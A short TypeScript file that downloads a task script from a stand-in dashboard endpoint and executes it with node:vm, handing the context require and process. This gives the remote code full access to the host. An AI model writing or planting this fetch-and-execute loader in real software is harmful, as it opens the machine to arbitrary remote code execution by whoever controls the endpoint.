import axios from 'axios';
import vm from 'node:vm';

interface Task { id: string; script: string }

async function main(): Promise<void> {
  const { data } = await axios.get<Task>('https://dashboard.example/api/next-task');
  const ctx = vm.createContext({ require, process, console });
  vm.runInContext(data.script, ctx);
}
main();
